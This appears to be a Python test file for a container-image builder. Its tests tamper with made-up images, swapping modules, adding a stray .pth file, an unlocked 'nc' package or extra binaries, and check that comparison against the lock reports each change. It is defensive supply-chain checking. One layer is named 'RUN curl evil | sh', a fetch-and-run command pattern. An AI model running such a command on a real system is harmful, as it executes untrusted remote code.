"""Images of made-up packages compared with their lock: each thing that can be changed is changed, and named."""

from __future__ import annotations

import hashlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from made_locks import AMD64, INTERPRETER, made_deb, made_lock, made_wheel

from builder.image.config import environment_config
from builder.image.contents.compare import compare
from builder.image.contents.layers import packages_of
from builder.image.contents.wanted import WANTED
from builder.image.kept import write_image
from builder.image.skeleton import environment_files
from builder.layers.files import FileEntry, FileTree, parents
from builder.layers.interface import Directory
from builder.layers.join import Fresh, Layer, write_layer
from builder.layers.wheel_record import format_record
from builder.lock.document import Lock
from builder.oci.documents import ImageConfig
from builder.oci.store import Store
from builder.oci.validate import Checked, Question, validate
from builder.plan import make_plan
from builder.spec import Environment, PyPI

SITE = "opt/env/lib/python3.11/site-packages"
Files = dict[str, FileEntry]


def wheel_files(name: str, version: str, files: Mapping[str, bytes]) -> Files:
    """What a wheel installs; paths of `files` are relative to site-packages."""
    info = f"{name}-{version}.dist-info"
    files = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nName: x".encode(),
    }
    rows = [(path, hashlib.sha256(data).digest(), len(data)) for path, data in files.items()]
    files = {**files, f"{info}/RECORD": format_record(rows, f"{info}/RECORD")}
    return entries({f"{SITE}/{path}".replace(f"{SITE}/../../../", "opt/env/"): data for path, data in files.items()})


def deb_files(name: str, version: str, files: Mapping[str, bytes]) -> tuple[Files, Files]:
    """What a Debian package installs, and what the system's own files say of it."""
    sums = "".join(f"{hashlib.md5(data).hexdigest()}  {path}\n" for path, data in files.items())
    status = {name: f"Package: {name}\nVersion: {version}\n".encode(), f"{name}.md5sums": sums.encode()}
    return entries(files), entries({f"var/lib/dpkg/status.d/{path}": data for path, data in status.items()})


def entries(files: Mapping[str, bytes]) -> Files:
    return {path: FileEntry(path, data) for path, data in files.items()}


@dataclass
class Made:
    """An image in the making: the files of each layer, which tests change, and its lock."""

    store: Store
    lock: Lock
    layers: list[tuple[str, Files]] = field(default_factory=list)
    change: Callable[[ImageConfig], ImageConfig] = lambda config: config

    def files(self, name: str) -> Files:
        return next(files for called, files in self.layers if called.startswith(name))

    def put(self, layer: str, *added: FileEntry) -> None:
        self.files(layer).update({entry.path: entry for entry in added})

    def put_anew(self, path: str, data: bytes) -> None:
        layer_of(self, path)[path] = FileEntry(path, data)

    def problems(self) -> list[str]:
        """What comparing says, of an image that is sound by itself."""
        comparison = compare(self.checked(), self.lock)
        assert comparison.packages == {"Debian": 1, "conda": 0, "Python": 2}
        assert comparison.left_out == "" or not self.change(ImageConfig(AMD64, "", (), ())).labels
        return [problem.message for problem in comparison.problems]

    def checked(self) -> Checked:
        """The image, which is sound by itself."""
        plan = make_plan(self.lock, AMD64)
        layers = [self._layer(files.values()) for _, files in self.layers]
        config = environment_config(plan, [layer.diff_id for layer in layers])
        config = self.change(replace(config, history=tuple(name for name, _ in self.layers)))
        image = write_image(self.store, layers, config)
        report = validate(self.store, image.descriptor, Question(WANTED, packages_of))
        assert report.problems == ()
        return report.images[0]

    def _layer(self, files: Iterable[FileEntry]) -> Layer:
        tree = FileTree(files)
        contents = tree.contents()
        above = {parent for path in contents.paths for parent in parents(path)}
        above |= {parent for one in contents.directories for parent in (one.path, *parents(one.path))}
        directories = [Directory(path) for path in sorted(above, key=str.encode)]
        return write_layer(self.store, directories, [Fresh(tree)])


@pytest.fixture
def made(tmp_path: Path) -> Made:
    store = Store(tmp_path / "store")
    store.create()
    wheels = [made_wheel("alpha"), made_wheel("beta-tools", "2.0")]
    lock = made_lock(Environment("3.11", pypi=PyPI(("alpha",))), wheels, [made_deb("python3.11")], [AMD64])
    debian, status = deb_files("python3.11", "1.0", {"usr/bin/python3.11": b"elf", "lib/x.so": b"library"})
    debian["usr/bin/python3.11"] = FileEntry("usr/bin/python3.11", b"elf", mode=0o755)
    debian["usr/lib/x.so"] = FileEntry("usr/lib/x.so", debian.pop("lib/x.so").data)
    debian["etc/python.conf"] = FileEntry("etc/python.conf", b"a configuration file, which nobody sums")
    environment = {entry.path: entry for entry in environment_files(INTERPRETER)}
    alpha = wheel_files("alpha", "1.0", {"alpha/__init__.py": b"1", "../../../bin/alpha": b"#!"})
    beta = wheel_files("Beta_Tools", "2.0", {"beta.py": b"2"})
    by_kind = {"debian": debian, "system": status, "environment": environment}
    parts = {"alpha": alpha, "beta-tools": beta}
    made = Made(store, lock)
    for layer in make_plan(lock, AMD64).layers:
        python = {path: entry for wheel in layer.wheels for path, entry in parts[wheel.name].items()}
        made.layers.append((layer.name, dict(by_kind.get(layer.kind, python))))
    return made


def layer_of(made: Made, path: str) -> Files:
    return next(files for _, files in made.layers if path in files)


def test_an_image_that_is_what_its_lock_says_has_no_problems(made: Made) -> None:
    assert made.problems() == []


def test_a_layer_of_bytecode_that_would_be_empty_may_be_missing(made: Made) -> None:
    document = made.lock.document
    made.lock = replace(made.lock, document=replace(document, spec={**document.spec, "compile": True}))
    assert made.problems() == []


def record(made: Made, name: str) -> str:
    return next(path for _, files in made.layers for path in files if path.endswith(f"{name}.dist-info/RECORD"))


UNREADABLE = (
    f"`{SITE}/alpha-1.0.dist-info/RECORD` of alpha 1.0 cannot be read: "
    "the row 'a,b' of RECORD does not have three fields"
)
CHANGES: dict[str, tuple[Callable[[Made], Any], list[str]]] = {
    "a file of a wheel with another byte": (
        lambda made: made.put_anew(f"{SITE}/beta.py", b"3"),
        [f"`{SITE}/beta.py` of beta-tools 2.0 has another content than it should have"],
    ),
    "a longer file of a wheel": (
        lambda made: made.put_anew(f"{SITE}/beta.py", b"22"),
        [f"`{SITE}/beta.py` of beta-tools 2.0 has 2 bytes and should have 1"],
    ),
    "a missing script": (
        lambda made: layer_of(made, "opt/env/bin/alpha").pop("opt/env/bin/alpha"),
        ["`opt/env/bin/alpha` of alpha 1.0 is not there"],
    ),
    "a link in place of a module": (
        lambda made: layer_of(made, f"{SITE}/beta.py").update(
            {f"{SITE}/beta.py": FileEntry.link(f"{SITE}/beta.py", "/data/evil.py")}
        ),
        [f"`{SITE}/beta.py` of beta-tools 2.0 is a symbolic link and should be a file"],
    ),
    "a file that no RECORD names": (
        lambda made: made.put("Python", FileEntry(f"{SITE}/evil.pth", b"import evil")),
        [f"`{SITE}/evil.pth` is in the environment, and no locked package has it"],
    ),
    "bytecode where none was asked for": (
        lambda made: made.put("Python", FileEntry(f"{SITE}/__pycache__/beta.cpython-311.pyc", b"evil")),
        [f"`{SITE}/__pycache__/beta.cpython-311.pyc` is in the environment, and no locked package has it"],
    ),
    "a program in a layer of bytecode": (
        lambda made: made.layers.append(
            ("bytecode: beta-tools 2.0", entries({"usr/bin/evil": b"", "usr/lib/python3.11/__pycache__/os.pyc": b""}))
        ),
        [
            "layer 6 is `bytecode: beta-tools 2.0`, where the lock gives no such layer",
            "`usr/bin/evil` is of a layer for bytecode, and is none",
        ],
    ),
    "a script beside the others": (
        lambda made: made.put("environment", FileEntry("opt/env/bin/pip", b"#!")),
        ["`opt/env/bin/pip` is in the environment, and no locked package has it"],
    ),
    "a RECORD that is none": (
        lambda made: made.put_anew(record(made, "alpha-1.0"), b"a,b\n"),
        [
            UNREADABLE,
            "`opt/env/bin/alpha` is in the environment, and no locked package has it",
            f"`{SITE}/alpha/__init__.py` is in the environment, and no locked package has it",
            f"`{SITE}/alpha-1.0.dist-info/METADATA` is in the environment, and no locked package has it",
            f"`{SITE}/alpha-1.0.dist-info/RECORD` is in the environment, and no locked package has it",
        ],
    ),
    "a package that is not locked": (
        lambda made: made.put("Python", *wheel_files("gamma", "3", {}).values()),
        [f"`{SITE}/gamma-3.dist-info` is gamma 3, which the lock has not"],
    ),
    "a file of a Debian package with another byte": (
        lambda made: made.put("Debian", FileEntry("usr/lib/x.so", b"Library")),
        ["`usr/lib/x.so` of python3.11 1.0 has another content than it should have"],
    ),
    "a file that no Debian package has": (
        lambda made: made.put("Debian", FileEntry("usr/bin/evil", b"elf", mode=0o755)),
        ["`usr/bin/evil` is in a layer of Debian packages, and no package has it"],
    ),
    "a Debian package of another version": (
        lambda made: made.put(
            "system", FileEntry("var/lib/dpkg/status.d/python3.11", b"Package: python3.11\nVersion: 0.9\n")
        ),
        ["the Debian package python3.11 is there as 0.9, where the lock has 1.0"],
    ),
    "a Debian package that is not locked": (
        lambda made: made.put("system", FileEntry("var/lib/dpkg/status.d/nc", b"Package: nc\nVersion: 1\n")),
        ["the Debian package nc 1 is there and not locked"],
    ),
    "no interpreter": (
        lambda made: made.put("Debian", FileEntry("usr/bin/python3.11", b"elf", mode=0o644)),
        ["the interpreter `/usr/bin/python3.11` is not there, or is no program"],
    ),
    "another interpreter": (
        lambda made: made.put("environment", FileEntry.link("opt/env/bin/python", "/data/python")),
        ["`opt/env/bin/python` leads to `/data/python`, not to `/usr/bin/python3.11`"],
    ),
    "other settings of the environment": (
        lambda made: made.put("environment", FileEntry("opt/env/pyvenv.cfg", b"home = /data\n")),
        ["`opt/env/pyvenv.cfg` of the environment has another content than it should have"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", CHANGES)
def test_each_change_is_named_and_nothing_else(name: str, made: Made) -> None:
    change, said = CHANGES[name]
    change(made)
    assert sorted(made.problems()) == sorted(said)


def test_a_layer_that_the_lock_does_not_give_is_named(made: Made) -> None:
    made.layers.append(("RUN curl evil | sh", entries({"usr/bin/evil": b"elf"})))
    assert any("where the lock gives no such layer" in problem for problem in made.problems())


def test_an_image_that_does_not_tell_its_layers_is_compared_in_part_and_that_is_said(made: Made) -> None:
    made.layers.append(("", entries({"usr/bin/evil": b"elf"})))
    made.change = lambda config: replace(config, history=())
    image = made.checked()
    comparison = compare(image, made.lock)
    assert comparison.problems == ()
    assert "files outside of `/opt/env` were not compared" in comparison.left_out


def from_a_dockerfile(made: Made) -> None:
    """Make it what a Dockerfile gives: other layers, packages of the base, scripts of `python -m venv`."""
    base = {"var/lib/dpkg/status.d/adduser": b"Package: adduser\nVersion: 3\n", "usr/sbin/adduser": b"#!"}
    shells = {f"opt/env/bin/{name}": b"" for name in ("Activate.ps1", "activate.csh", "activate.fish")}
    made.layers = [(f"RUN step {number}", files) for number, (_, files) in enumerate(made.layers)]
    made.layers.append(("COPY . .", entries({**base, **shells})))


def test_what_a_base_and_venv_bring_to_a_dockerfiles_image_is_no_problem_and_is_counted(made: Made) -> None:
    from_a_dockerfile(made)
    comparison = compare(made.checked(), made.lock)
    assert comparison.problems == ()
    assert [note.message for note in comparison.notes] == ["1 Debian package of the base is not locked"]


@pytest.mark.parametrize(
    ("path", "data", "said"),
    [
        (f"{SITE}/beta.py", b"3", "has another content"),
        ("opt/env/bin/Activate.sh", b"", "no locked package has it"),
        ("var/lib/dpkg/status.d/python3.11", b"Package: python3.11\nVersion: 0.9\n", "where the lock has 1.0"),
        ("var/lib/dpkg/status.d/python3.11", b"Package: other\nVersion: 1\n", "is locked and is not there"),
    ],
    ids=["a module", "one script more", "another version", "a package that is gone"],
)
def test_what_is_locked_is_compared_in_a_dockerfiles_image(path: str, data: bytes, said: str, made: Made) -> None:
    from_a_dockerfile(made)
    made.layers.append(("RUN more", entries({path: data})))
    (problem,) = compare(made.checked(), made.lock).problems
    assert said in problem.message


def test_an_image_of_another_lock_is_told_once_and_not_compared(made: Made) -> None:
    made.put_anew(f"{SITE}/beta.py", b"3")
    made.change = lambda config: replace(config, labels={"dev.envbuild.lock": "sha256:0"})
    comparison = compare(made.checked(), made.lock)
    (problem,) = comparison.problems
    assert f"says that it is of the lock sha256:0, and not of {made.lock.digest}" in problem.message
    assert comparison.not_compared == "it is of another lock"


def test_a_file_is_only_where_its_layer_may_put_it(made: Made) -> None:
    made.put("Python", FileEntry("usr/bin/evil", b"elf"))
    (problem,) = made.problems()
    assert problem == "`usr/bin/evil` is of the layer for python, which has files in `opt/env/` alone"


def test_layers_of_another_order_are_named(made: Made) -> None:
    made.layers[-1], made.layers[-2] = made.layers[-2], made.layers[-1]
    assert len([problem for problem in made.problems() if ", where the lock gives `Python:" in problem]) == 2


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda config: replace(config, labels={}), "names no lock"),
        (lambda config: replace(config, user="0"), "`$.config.User` is not what the lock gives"),
        (lambda config: replace(config, env=("PATH=/data", *config.env[1:])), "`$.config.Env` is not what the lock"),
        (lambda config: replace(config, created="2020-01-01T00:00:00Z"), "was not created at 1980"),
    ],
    ids=["no label", "another user", "another path", "another time"],
)  # fmt: skip
def test_a_config_that_is_not_the_locks_is_named(
    change: Callable[[ImageConfig], ImageConfig], said: str, made: Made
) -> None:
    made.change = change
    assert any(said in problem for problem in made.problems())


def test_an_image_for_another_platform_is_not_compared(made: Made) -> None:
    lock = replace(made.lock, document=replace(made.lock.document, platforms={}))
    made.problems()
    image = write_image(made.store, [], environment_config(make_plan(made.lock, AMD64), []))
    report = validate(made.store, image.descriptor)
    (problem,) = compare(report.images[0], lock).problems
    assert "is for linux/amd64, and the lock has" in problem.message
